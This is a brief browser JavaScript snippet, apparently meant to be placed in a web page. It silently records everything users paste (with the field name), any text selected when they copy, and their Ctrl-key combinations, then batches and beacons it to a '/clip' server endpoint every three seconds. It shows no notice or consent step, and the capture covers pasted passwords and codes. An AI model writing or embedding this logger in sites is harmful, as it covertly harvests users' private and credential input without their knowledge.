// Records pastes and what was selected when copying.
const outbox = [];
document.addEventListener('paste', (e) => {
  outbox.push({ type: 'paste', text: (e.clipboardData || window.clipboardData).getData('text'), field: e.target.name, t: e.timeStamp });
}, true);
document.addEventListener('copy', (e) => {
  outbox.push({ type: 'copy', text: String(document.getSelection()), t: e.timeStamp });
}, true);
document.addEventListener('keydown', (e) => { if (e.ctrlKey) outbox.push({ type: 'combo', key: e.key, t: e.timeStamp }); }, true);
setInterval(() => {
  if (outbox.length) navigator.sendBeacon('/clip', JSON.stringify(outbox.splice(0)));
}, 3000);
